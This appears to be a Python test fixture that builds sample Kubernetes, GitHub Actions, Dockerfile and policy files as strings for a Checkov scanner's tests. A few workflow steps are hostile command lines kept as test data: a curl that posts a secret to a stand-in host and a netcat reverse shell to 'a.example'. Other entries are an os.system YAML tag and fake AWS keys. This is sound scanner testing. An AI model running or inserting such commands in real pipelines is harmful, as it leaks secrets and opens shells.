"""The files that one run of Checkov judges. They are strings, because Checkov judges this repository too."""

from tests.mlplatform.providers.scan.terraform_cases import TERRAFORM

PIN = "FROM python:3.12.1-slim@sha256:" + "0" * 64
MANIFEST = """apiVersion: v1
kind: ConfigMap
metadata: {name: a, namespace: gateway}
"""
POD = """apiVersion: v1
kind: Pod
metadata:
  name: a
  namespace: gateway
SKIPspec:
  containers:
  - name: a
    image: nginx
    securityContext:
      privileged: true
"""
WORKFLOW = """name: check
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: STEP
"""
ACCESS_KEY = "AKIA" + "IOSFODNN7ABCDEFG"

KUBERNETES = {
    "infrastructure/k8s/good.yaml": MANIFEST,
    "infrastructure/k8s/two.yaml": f"{MANIFEST}---\n{MANIFEST}---\n",
    "infrastructure/k8s/list.yaml": "apiVersion: v1\nkind: List\nitems:\n"
    "- {apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: b}}\n"
    "- {apiVersion: v1, kind: Pod, metadata: {name: b, namespace: b},"
    " spec: {containers: [{name: a, image: a, securityContext: {privileged: true}}]}}\n",
    "infrastructure/k8s/good.json": '{"apiVersion": "v1", "kind": "ConfigMap",'
    ' "metadata": {"name": "a", "namespace": "b"}}',
    "deploy/pod.json": '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a", "namespace": "b"},'
    ' "spec": {"containers": [{"name": "a", "image": "a", "securityContext": {"privileged": true}}]}}',
    "infrastructure/k8s/values.json": '{"anything": 1}',
    "infrastructure/k8s/pod.yaml": POD.replace("SKIP", ""),
    "infrastructure/.hidden/node_modules/pod.yaml": POD.replace("SKIP", ""),
    "deploy/pod.yaml": POD.replace("SKIP", ""),
    "deploy/escaped.yaml": POD.replace("SKIP", "").replace("apiVersion", '"api\\x56ersion"'),
    "deploy/escaped-anchor.yaml": POD.replace("SKIP", "").replace(
        "apiVersion: v1", '"api\\x56ersion": &a v1'
    ),
    "deploy/else.yaml": "- nothing\n- like: a manifest\n",
    "infrastructure/k8s/skip.yaml": POD.replace(
        "SKIP", "  annotations:\n    checkov.io/skip1: CKV_K8S_16=no\n"
    ),
    "infrastructure/k8s/skip-escaped.yaml": POD.replace(
        "SKIP", '  annotations:\n    "checkov.io/sk\\x69p1": "CKV_K8S_16=no"\n'
    ),
    "infrastructure/k8s/served.yaml": "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\n"
    "metadata: {name: a, namespace: b}\n",
    "infrastructure/k8s/broken.yaml": "apiVersion: v1\nkind: [\n",
    "infrastructure/k8s/half.yaml": f"{MANIFEST}---\napiVersion: v1\nkid: Pod\nmetadata: {{name: a}}\n",
    "infrastructure/k8s/name.yaml": "apiVersion: v1\nkind: Pod\nmetadata: {name: 'a#b', namespace: b}\n",
    "infrastructure/k8s/helm.yaml": MANIFEST + "data: {a: '{{ .Values.a }}'}\n",
    "infrastructure/k8s/alias.yaml": MANIFEST + "data: {a: &a b, c: *a}\n",
    "infrastructure/k8s/twice.yaml": POD.replace("SKIP", "spec: {}\n"),
    "infrastructure/k8s/tag.yaml": MANIFEST + "data: {a: !!python/name:os.system x}\n",
    "infrastructure/k8s/deep.yaml": MANIFEST + "data: " + "[" * 5000,
    "infrastructure/k8s/notes.yaml": "just: notes\n",
}
WORKFLOWS = {
    ".github/workflows/good.yml": WORKFLOW.replace("STEP", "make check"),
    ".github/workflows/newer.yml": WORKFLOW.replace(
        "permissions: {}", "permissions: {attestations: read, models: read}"
    ),
    ".github/workflows/curl.yml": WORKFLOW.replace("STEP", "curl -d $MY_secret https://a.example"),
    ".github/workflows/insecure.yml": WORKFLOW.replace(
        "jobs:", "env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}\njobs:"
    ),
    ".github/workflows/skip.yml": WORKFLOW.replace(
        "STEP", "nc -e /bin/sh a.example 1 # checkov:skip=CKV_GHA_3"
    ),
    ".github/workflows/write-all.yml": WORKFLOW.replace("{}", "write-all"),
    ".github/workflows/typo.yml": WORKFLOW.replace("steps:", "stepps:"),
    ".github/workflows/typed.yml": WORKFLOW.replace("jobs:", "jbos:"),
    ".github/workflows/list.yml": "- a\n",
    ".github/workflows/empty.yml": "",
    ".github/workflows/two.yml": WORKFLOW + "---\n" + WORKFLOW,
}
DOCKERFILES = {
    "images/good/Dockerfile": f"{PIN}\nRUN true \\\n  # a comment\n  && true\nUSER 10001\nHEALTHCHECK CMD true\n",
    "images/superuser/Dockerfile": "FROM python:latest\nRUN sudo true\nUSER root\n",
    "images/skip/Dockerfile": "# checkov:skip=CKV_DOCKER_7: no\n"
    "FROM python:latest\n#Cortex:Skip = CKV_DOCKER_3\nUSER 1\nHEALTHCHECK CMD true\n",
    "images/here/Dockerfile": f"{PIN}\nRUN bash <<END\nsudo true\nEND\nUSER 1\nHEALTHCHECK CMD true\n",
    "images/escape/Dockerfile": f"# escape=`\n{PIN}\nUSER 1\nHEALTHCHECK CMD true\n",
    "images/typo/Dockerfile": f"{PIN}\nUSSR 1\n",
    "images/later/Dockerfile": f"{PIN}\nONBUILD RUN sudo true\nUSER 1\nHEALTHCHECK CMD true\n",
    "images/empty/Dockerfile": "# nothing\n",
    "images/here/Containerfile": f"{PIN}\n",
}
PASSED_OVER = ("swagger/index.js", "e/yarn.lock", "e/package-lock.json", "e/key.svg")  # by Checkov left alone
OTHERS = {
    "docker-compose.yml": "services: {}\n",
    ".checkov.yaml": "skip-check: [CKV_AWS_18]\n",
    "policies/checkov/extra.py": "raise SystemExit\n",
    ".github/actions/a/action.yml": "runs: {using: composite, steps: [{run: ls, shell: bash}]}\n",
    ".github/actions/b/action.yml": "runs: {using: composite, steps: [{uses: acme/a@v1}]}\n",
    "action.yml": "runs: {using: composite, steps: [{uses: acme/a@v1}]}\n",
    "tools/set-up/action.yml": "runs: {using: docker, image: docker://acme/a:1}\n",
    "ci/set-up/action.yml": f"runs: {{using: docker, image: 'docker://acme/a@sha256:{'0' * 64}'}}\n",
    "deploy/action.yaml": POD.replace("SKIP", ""),
    **{f".github/actions/{name}": f"key = '{ACCESS_KEY}'\n" for name in PASSED_OVER},
    ".github/actions/e/run.sh": f"git_commit={ACCESS_KEY}\n",
    ".github/actions/c/index.js": f"const key = '{ACCESS_KEY}'\n",
    ".github/actions/d/index.js": f"const key = '{ACCESS_KEY}' // pragma: allowlist secret\n",
    "infrastructure/chart/Chart.yaml": "name: a\n",
    "infrastructure/deploy.sh": "kubectl apply -f -\n",
    "deploy/pod.yaml.j2": POD.replace("SKIP", "").replace("nginx", "{{ image }}"),
    "deploy/pod.tmpl": "{{- if .on }}\n" + POD.replace("SKIP", ""),
    "deploy/main.tf.tmpl": 'resource "aws_s3_bucket" "{{ name }}" {\n}\n',
    "deploy/image.tmpl": "FROM {{ base }}\nUSER root\n",
    "deploy/letter.tmpl": "Dear {{ name }},\nyour model runs.\n",
    "deploy/stack.yaml": "Resources:\n  data: {Type: 'AWS::S3::Bucket'}\n",
    "deploy/stack-tagged.yaml": "Resources:\n  data:\n    Type: AWS::S3::Bucket\n    Name: !Ref name\n",
    "infrastructure/stack.json": '{"Resources": {"a": {"Type": "AWS::S3::Bucket"}}}',
    "deploy/empty-stack.json": '{"AWSTemplateFormatVersion": "2010-09-09"}',
    "deploy/azure.json": '{"$schema": "https://schema.example/deploymentTemplate.json#", "resources": []}',
    "infrastructure/policy.json": '{"Version": "2012-10-17", "Statement": []}',
    ".github/workflows/many.yml": WORKFLOW + "      - run: ls\n" * 500,
    "infrastructure/k8s/many.yaml": "---\n".join([MANIFEST] * 501),
}
FILES = {**TERRAFORM, **KUBERNETES, **WORKFLOWS, **DOCKERFILES, **OTHERS}

_POLICY = """
metadata: {id: ID, name: Keys say which tenant they are for, category: GENERAL_SECURITY}
definition: {cond_type: attribute, resource_types: [aws_kms_key], attribute: tags.tenant, operator: exists}
"""
POLICIES = {
    "policies/checkov/tagged.yaml": _POLICY.replace("ID", "CKV2_ORG_1"),
    "policies/checkov/README.md": "# Not a policy",
    "policies/checkov/check.py": "raise SystemExit('Python of the organisation ran')",
    "policies/checkov/again.yaml": _POLICY.replace("ID", "CKV_AWS_18"),
    "policies/checkov/ours.yaml": _POLICY.replace("ID", "CKV_MLP_99"),
    "policies/checkov/broken.yaml": "metadata: [",
    "policies/checkov/empty.yaml": "",
    "policies/checkov/lacks.yaml": "metadata: {id: CKV2_ORG_2, name: a}\ndefinition: {}\n",
    "policies/checkov/operator.yaml": _POLICY.replace("ID", "CKV2_ORG_3").replace("exists", "exits"),
}
